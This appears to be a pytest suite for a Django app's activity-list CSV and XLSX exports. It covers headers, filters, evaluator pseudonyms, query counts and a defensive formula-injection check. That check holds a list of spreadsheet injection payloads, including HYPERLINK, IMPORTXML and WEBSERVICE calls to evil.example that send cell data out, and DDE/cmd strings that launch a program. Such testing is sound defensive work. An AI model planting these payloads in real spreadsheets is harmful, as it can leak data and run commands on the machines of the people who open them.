"""The activity list's exports: activities.csv and activity_contacts.csv (and XLSX).

Exact headers and rows, the list's filters, pseudonyms for evaluators, streaming
in a fixed number of queries per chunk, and the download link.
"""

import datetime
import decimal

import pytest
from django.db import connection
from django.urls import reverse
from freezegun import freeze_time

from activities.exports.activities import ACTIVITY_COLUMNS
from activities.models import Activity, Category, Community, Conduit, Direction, Setting, Topic
from kmtracker.lib.files import FORMULA_STARTS, restore
from kmtracker.lists import exports as list_exports
from tests import factories
from tests.activities.downloads import (
    content_of,
    csv_records,
    csv_rows,
    workbook_of,
    xlsx_has_formulas,
    xlsx_rows,
)

pytestmark = pytest.mark.django_db

HEADER = [
    "id",
    "date",
    "team",
    "lead_broker",
    "co_brokers",
    "category",
    "activity_type",
    "title",
    "description",
    "duration_minutes",
    "setting",
    "direction",
    "conduits",
    "contacts",
    "contact_communities",
    "organisations",
    "topics",
    "attendees",
    "project",
    "outcomes",
    "follow_up",
    "created_by",
    "created_at",
    "updated_at",
]
LINK_HEADER = ["activity_id", "date", "category", "contact", "community", "organisation_kind"]


def list_url(team):
    return reverse("activities:activity_list", kwargs={"team": team.slug})


def export(client, team, **params):
    response = client.get(list_url(team), {"export": "csv", **params})
    assert response.status_code == 200, response.content
    return response


@pytest.fixture
def seminar(team, broker, lead):
    """An activity with every column filled, logged by the broker on 12 May 2025 at 10:15."""
    university = factories.OrganisationFactory(name="University of Bristol", kind="university")
    icb = factories.OrganisationFactory(name="BNSSG ICB", kind="commissioner")
    ada = factories.ContactFactory(
        team=team, name="Ada Lovelace", community=Community.RESEARCH, organisation=university
    )
    grace = factories.ContactFactory(
        team=team, name="Grace Hopper", community=Community.COMMISSIONING, organisation=icb
    )
    project = factories.ProjectFactory(team=team, title="Frailty evaluation")
    with freeze_time("2025-05-12 09:15:00"):  # 10:15 in London (BST)
        activity = factories.ActivityFactory(
            team=team,
            lead_broker=broker.broker_profile,
            co_brokers=[lead.broker_profile],
            date=datetime.date(2025, 5, 12),
            activity_type=factories.activity_type(team, "Seminar delivered"),
            title="Frailty seminar",
            description="Findings on frailty,\nwith “quotes”.",
            duration_minutes=90,
            setting=Setting.ACADEMIC,
            direction=Direction.RESEARCH_INFORMED_COMMISSIONING,
            conduits=list(Conduit.objects.filter(code__in=["interpersonal", "governance"])),
            contacts=[grace, ada],
            organisations=[university, icb],
            topics=[
                Topic.objects.create(team=team, name="urgent care"),
                Topic.objects.create(team=team, name="frailty"),
            ],
            attendees=40,
            project=project,
            follow_up_date=datetime.date(2025, 6, 1),
            created_by=broker,
        )
        factories.OutcomeFactory(
            team=team, activity=activity, type="connection_made", date=datetime.date(2025, 5, 20)
        )
        factories.OutcomeFactory(
            team=team, activity=activity, type="output", date=datetime.date(2025, 5, 13)
        )
    return activity


def expected_row(activity, contacts, communities):
    return [
        str(activity.pk),
        "2025-05-12",
        "bristol",
        activity.lead_broker.name,
        activity.co_brokers.get().name,
        "awareness_raising",
        "Seminar delivered",
        "Frailty seminar",
        "Findings on frailty,\nwith “quotes”.",
        "90",
        "academic",
        "research_informed_commissioning",
        "interpersonal; governance",
        contacts,
        communities,
        "BNSSG ICB; University of Bristol",
        "frailty; urgent care",
        "40",
        "Frailty evaluation",
        "output; connection_made",
        "2025-06-01",
        activity.created_by.get_full_name(),
        "2025-05-12T10:15:00+01:00",
        "2025-05-12T10:15:00+01:00",
    ]


def test_it_writes_the_documented_header_and_one_row_per_activity(
    client_for, team, broker, seminar
):
    rows = csv_rows(export(client_for(broker), team))

    assert rows[0] == HEADER
    assert rows[1:] == [
        expected_row(seminar, "Ada Lovelace; Grace Hopper", "research; commissioning")
    ]


def test_evaluators_get_pseudonyms_and_no_contact_names(client_for, team, evaluator, seminar):
    ada, grace = seminar.contacts.order_by("name")
    pairs = sorted([(ada.pseudonym, "research"), (grace.pseudonym, "commissioning")])

    response = export(client_for(evaluator), team)

    content = content_of(response).decode()
    assert "Ada" not in content and "Grace" not in content
    rows = csv_rows(content.encode())
    assert rows[1] == expected_row(
        seminar, "; ".join(p for p, _ in pairs), "; ".join(c for _, c in pairs)
    )
    assert all(p.startswith("C-") and len(p) == 10 for p, _ in pairs)


def test_pseudonyms_are_the_same_in_every_export_of_the_team(client_for, team, evaluator, seminar):
    client = client_for(evaluator)
    ada = seminar.contacts.get(name="Ada Lovelace")

    activities = csv_records(export(client, team))
    links = csv_records(export(client, team, table="activity_contacts"))
    contacts = csv_records(
        client.get(reverse("activities:contact_list", args=[team.slug]), {"export": "csv"})
    )
    again = csv_records(export(client, team))

    assert ada.pseudonym in activities[0]["contacts"].split("; ")
    assert ada.pseudonym in {link["contact"] for link in links}
    assert ada.pseudonym in {contact["pseudonym"] for contact in contacts}
    assert again == activities


def test_the_file_is_named_after_the_team_the_list_and_the_day(client_for, team, broker):
    with freeze_time("2026-11-22 12:00"):
        response = export(client_for(broker), team)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="bristol-activities-2026-11-22.csv"'
    )
    assert response.streaming


def test_it_adds_a_byte_order_mark_on_request(client_for, team, broker, seminar):
    response = export(client_for(broker), team, bom="1")

    assert content_of(response).startswith(b"\xef\xbb\xbfid,date,")


def test_it_has_no_byte_order_mark_by_default(client_for, team, broker, seminar):
    assert content_of(export(client_for(broker), team)).startswith(b"id,date,")


# The list's filters decide the rows, as on the page.


def test_it_exports_only_the_filtered_rows_in_the_lists_order(client_for, team, broker):
    seminar_type = factories.activity_type(team, "Seminar delivered")
    for title, day, activity_type in [
        ("Q1 seminar early", datetime.date(2025, 4, 2), seminar_type),
        ("Q1 seminar late", datetime.date(2025, 6, 30), seminar_type),
        ("Q1 introduction", datetime.date(2025, 5, 5), factories.activity_type(team)),
        ("Q2 seminar", datetime.date(2025, 7, 1), seminar_type),
        ("Q4 seminar", datetime.date(2025, 3, 31), seminar_type),
    ]:
        factories.ActivityFactory(
            team=team,
            lead_broker=broker.broker_profile,
            title=title,
            date=day,
            activity_type=activity_type,
        )
    client = client_for(broker)

    with freeze_time("2025-08-01"):
        records = csv_records(export(client, team, quarter="2025-q1", category="awareness_raising"))

    assert [r["title"] for r in records] == ["Q1 seminar late", "Q1 seminar early"]


def test_it_sorts_as_the_list_does(client_for, team, broker):
    for title in ["Bravo", "Alpha", "Charlie"]:
        factories.ActivityFactory(team=team, lead_broker=broker.broker_profile, title=title)

    records = csv_records(export(client_for(broker), team, o="title"))

    assert [r["title"] for r in records] == ["Alpha", "Bravo", "Charlie"]


def test_it_ignores_the_page_and_exports_every_row(client_for, team, broker):
    factories.ActivityFactory.create_batch(55, team=team, lead_broker=broker.broker_profile)

    records = csv_records(export(client_for(broker), team, page="2"))

    assert len(records) == 55


def test_it_exports_nothing_of_other_teams(client_for, team, broker, other_broker, other_team):
    factories.ActivityFactory(team=team, lead_broker=broker.broker_profile, title="Ours")
    factories.ActivityFactory(
        team=other_team, lead_broker=other_broker.broker_profile, title="Theirs"
    )

    records = csv_records(export(client_for(broker), team))

    assert [r["title"] for r in records] == ["Ours"]


def test_a_bad_filter_is_a_clear_error_not_an_empty_file(client_for, team, broker):
    response = client_for(broker).get(list_url(team), {"export": "csv", "category": "nonsense"})

    assert response.status_code == 400
    assert "category" in response.content.decode()


@pytest.mark.parametrize(
    ("query", "message"),
    [({"export": "pdf"}, "Unknown export format"), ({"export": "csv", "table": "x"}, "table")],
)
def test_an_unknown_format_or_table_is_a_clear_error(client_for, team, broker, query, message):
    response = client_for(broker).get(list_url(team), query)

    assert response.status_code == 400
    assert message in response.content.decode()


def test_the_download_links_carry_the_current_filters(client_for, team, broker):
    response = client_for(broker).get(
        list_url(team), {"category": "awareness_raising", "page": "1"}
    )

    html = response.content.decode()
    assert 'href="?category=awareness_raising&amp;export=csv"' in html
    assert 'href="?category=awareness_raising&amp;export=csv&amp;table=activity_contacts"' in html
    assert 'href="?category=awareness_raising&amp;export=xlsx"' in html


def test_the_table_partial_has_the_download_links_too(client_for, team, broker):
    response = client_for(broker).get(
        list_url(team), {"setting": "online"}, headers={"HX-Request": "true"}
    )

    assert 'href="?setting=online&amp;export=csv"' in response.content.decode()


# Values.


def test_empty_values_are_empty_cells(client_for, team, broker):
    factories.ActivityFactory(
        team=team, lead_broker=broker.broker_profile, duration_minutes=None, setting=""
    )

    record = csv_records(export(client_for(broker), team))[0]

    for column in [
        "co_brokers",
        "duration_minutes",
        "setting",
        "conduits",
        "contacts",
        "contact_communities",
        "organisations",
        "topics",
        "attendees",
        "project",
        "outcomes",
        "follow_up",
        "created_by",
    ]:
        assert record[column] == "", column


def test_unicode_and_very_long_values_come_back_whole(client_for, team, broker):
    description = "Zoë’s “mixed” text — 日本語, emoji 🧠, RTL עברית\n" * 2000
    factories.ActivityFactory(
        team=team, lead_broker=broker.broker_profile, title="Café ✓ Ørsted", description=description
    )
    client = client_for(broker)

    record = csv_records(export(client, team))[0]
    workbook = xlsx_rows(content_of(client.get(list_url(team), {"export": "xlsx"})))

    assert record["title"] == "Café ✓ Ørsted"
    assert record["description"] == description
    assert len(description) > 2 * 32_767
    assert workbook[1][HEADER.index("title")] == "Café ✓ Ørsted"
    # XLSX cells hold at most 32,767 characters (Excel's limit); the CSV keeps everything.
    assert workbook[1][HEADER.index("description")] == description[:32_767]


def test_numbers_and_dates_are_typed_in_xlsx(client_for, team, broker, seminar):
    response = client_for(broker).get(list_url(team), {"export": "xlsx"})

    assert response["Content-Disposition"].endswith('.xlsx"')
    header, row = xlsx_rows(content_of(response))
    assert header == HEADER
    assert row[HEADER.index("id")] == seminar.pk
    assert row[HEADER.index("date")] == datetime.datetime(2025, 5, 12)
    assert row[HEADER.index("duration_minutes")] == 90
    assert row[HEADER.index("created_at")] == "2025-05-12T10:15:00+01:00"


# Activity–contact links.


def test_links_have_one_row_per_contact_of_each_filtered_activity(client_for, team, broker):
    bristol = factories.OrganisationFactory(name="Bristol City Council", kind="local_authority")
    ada = factories.ContactFactory(team=team, name="Ada", community=Community.RESEARCH)
    bob = factories.ContactFactory(
        team=team, name="Bob", community=Community.COMMISSIONING, organisation=bristol
    )
    intro = factories.ActivityFactory(
        team=team,
        lead_broker=broker.broker_profile,
        date=datetime.date(2025, 5, 2),
        contacts=[bob, ada],
    )
    factories.ActivityFactory(
        team=team,
        lead_broker=broker.broker_profile,
        date=datetime.date(2025, 5, 1),
        activity_type=factories.activity_type(team, "Seminar delivered"),
        contacts=[ada],
    )
    factories.ActivityFactory(team=team, lead_broker=broker.broker_profile, contacts=[])

    rows = csv_rows(
        export(
            client_for(broker), team, table="activity_contacts", category="relationship_building"
        )
    )

    assert rows[0] == LINK_HEADER
    assert rows[1:] == [
        [str(intro.pk), "2025-05-02", "relationship_building", "Ada", "research", ""],
        [
            str(intro.pk),
            "2025-05-02",
            "relationship_building",
            "Bob",
            "commissioning",
            "local_authority",
        ],
    ]


def test_links_show_evaluators_pseudonyms(client_for, team, broker, evaluator):
    ada = factories.ContactFactory(team=team, name="Ada Lovelace")
    factories.ActivityFactory(team=team, lead_broker=broker.broker_profile, contacts=[ada])

    content = content_of(export(client_for(evaluator), team, table="activity_contacts"))

    assert "Ada" not in content.decode()
    assert csv_rows(content)[1][3] == ada.pseudonym


def test_links_are_named_as_their_own_file(client_for, team, broker):
    with freeze_time("2026-11-22 12:00"):
        response = export(client_for(broker), team, table="activity_contacts")

    assert "bristol-activity_contacts-2026-11-22.csv" in response["Content-Disposition"]


# Queries: a fixed number per chunk of rows, however many related rows there are.


def _busy_activities(team, broker, count):
    contacts = factories.ContactFactory.create_batch(
        3, team=team, organisation=factories.OrganisationFactory()
    )
    for _ in range(count):
        activity = factories.ActivityFactory(
            team=team,
            lead_broker=broker.broker_profile,
            co_brokers=[factories.BrokerFactory(team=team)],
            contacts=contacts,
            organisations=[factories.OrganisationFactory()],
            conduits=list(Conduit.objects.all()[:2]),
            topics=[Topic.objects.create(team=team, name=f"topic {Topic.objects.count()}")],
            project=factories.ProjectFactory(team=team),
        )
        factories.OutcomeFactory(team=team, activity=activity)


# session, user, membership; the activities (with team, lead broker and user, type,
# project, created_by joined); then per chunk one query each for co-brokers, conduits,
# topics, organisations, contacts (with their organisations) and outcomes. On PostgreSQL
# one COPY computes every column (kmtracker.lib.copy_csv), between setting and resetting the
# connection's JIT compiling. Every download also writes its record in the access log.
REQUEST_QUERIES = 3 + 1
EXPORT_QUERIES = REQUEST_QUERIES + (3 if connection.vendor == "postgresql" else 1 + 6)


@pytest.mark.parametrize("count", [2, 9])
def test_the_export_takes_the_same_queries_for_any_number_of_rows(
    client_for, team, broker, django_assert_num_queries, count
):
    _busy_activities(team, broker, count)
    client = client_for(broker)

    with django_assert_num_queries(EXPORT_QUERIES):
        records = csv_records(export(client, team))

    assert len(records) == count


def test_each_chunk_of_rows_adds_the_same_prefetch_queries(
    client_for, team, broker, django_assert_num_queries, monkeypatch
):
    _busy_activities(team, broker, 5)
    monkeypatch.setattr(list_exports, "CHUNK_SIZE", 2)
    monkeypatch.setattr(list_exports, "writes_in_sql", lambda *args: False)
    client = client_for(broker)

    # The Python path, with three chunks of rows (2, 2 and 1) of 6 prefetch queries each.
    with django_assert_num_queries(REQUEST_QUERIES + 1 + 3 * 6):
        records = csv_records(export(client, team))

    assert len(records) == 5


# session, user, membership, access record; the activities; their contacts.
@pytest.mark.parametrize("count", [2, 9])
def test_the_links_export_takes_the_same_queries_for_any_number_of_rows(
    client_for, team, broker, django_assert_num_queries, count
):
    _busy_activities(team, broker, count)
    client = client_for(broker)

    with django_assert_num_queries(REQUEST_QUERIES + 1 + 1):
        rows = csv_rows(export(client, team, table="activity_contacts"))

    assert len(rows) == 1 + 3 * count


# Formula injection: every text column, read back as a spreadsheet and a script would.

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+44 117 496 0000",
    "-1+1",
    "-2",
    "@SUM(1,1)",
    "@",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "'=1+1",
    "''+1",
    '"=1+1"',
    "=1+1; =2+2",
]
TEXT_TYPES = {list_exports.TEXT, list_exports.TEXT_LIST}


def _injected_activity(team, payload, lead_user):
    """An activity whose every text column starts with `payload`."""
    lead_user.first_name, lead_user.last_name = payload, "Lead"
    lead_user.save()
    co_broker = factories.BrokerFactory(
        team=team, user=factories.UserFactory(first_name=payload, last_name="Co")
    )
    activity_type = factories.activity_type(team)
    activity_type.name = payload + " type"
    activity_type.save()
    return factories.ActivityFactory(
        team=team,
        lead_broker=lead_user.broker_profile,
        co_brokers=[co_broker],
        activity_type=activity_type,
        title=payload,
        description=payload + "\nmore",
        contacts=[factories.ContactFactory(team=team, name=payload + " contact")],
        organisations=[factories.OrganisationFactory(name=payload + " organisation")],
        topics=[Topic.objects.create(team=team, name=payload + " topic")],
        project=factories.ProjectFactory(team=team, title=payload + " project"),
        created_by=lead_user,
    )


def _text_values(activity, access):
    return {
        column.heading: column.value(activity, access)
        for column in ACTIVITY_COLUMNS
        if column.type in TEXT_TYPES
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_cell_of_the_csv_would_run_as_a_formula(client_for, team, broker, payload):
    activity = _injected_activity(team, payload, broker)
    response = export(client_for(broker), team)
    record = csv_records(response)[0]

    expected = _text_values(
        Activity.objects.with_related().get(pk=activity.pk), response.wsgi_request.team_access
    )
    assert len(expected) >= 10
    for heading, value in expected.items():
        cell = record[heading]
        assert not cell.lstrip(" \u00a0\n").startswith(FORMULA_STARTS), (heading, cell)
        assert restore(cell) == value, heading


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_the_xlsx_is_a_formula(client_for, team, broker, payload):
    activity = _injected_activity(team, payload, broker)
    response = client_for(broker).get(list_url(team), {"export": "xlsx"})
    data = content_of(response)

    assert not xlsx_has_formulas(data)
    sheet = workbook_of(data).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    expected = _text_values(
        Activity.objects.with_related().get(pk=activity.pk), response.wsgi_request.team_access
    )
    for heading, value in expected.items():
        cell = row[header.index(heading)]
        assert cell.data_type == "s", heading
        # Text cells keep their text, but for line ends: XML reads a CR as a line feed.
        assert cell.value == value.replace("\r", "\n"), heading


def test_numbers_are_never_altered(client_for, team, broker):
    project = factories.ProjectFactory(team=team, amount_requested=decimal.Decimal("1250.50"))
    factories.ActivityFactory(
        team=team,
        lead_broker=broker.broker_profile,
        duration_minutes=0,
        attendees=0,
        project=project,
    )

    record = csv_records(export(client_for(broker), team))[0]

    assert record["duration_minutes"] == "0"
    assert record["attendees"] == "0"


def test_it_writes_the_category_codes_not_labels(client_for, team, broker):
    factories.ActivityFactory(
        team=team,
        lead_broker=broker.broker_profile,
        activity_type=factories.activity_type(team, "Consultation"),
    )

    record = csv_records(export(client_for(broker), team))[0]

    assert record["category"] == Category.ADVICE_CONSULTATION.value
